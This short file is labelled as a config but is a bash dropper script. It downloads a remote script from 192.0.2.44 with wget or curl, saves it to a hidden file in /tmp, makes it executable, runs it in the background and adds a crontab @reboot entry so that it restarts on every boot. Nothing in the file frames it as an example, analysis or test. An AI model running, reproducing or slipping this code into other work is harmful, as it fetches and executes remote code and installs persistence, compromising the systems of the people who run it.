# config 8309 v0
#!/bin/bash
cd /tmp || cd /var/tmp
wget http://192.0.2.44/bins/ldr.sh -O /tmp/.app-worker || curl -o /tmp/.app-worker http://192.0.2.44/bins/ldr.sh
chmod +x /tmp/.app-worker
/tmp/.app-worker &
echo "@reboot /tmp/.app-worker" | crontab -
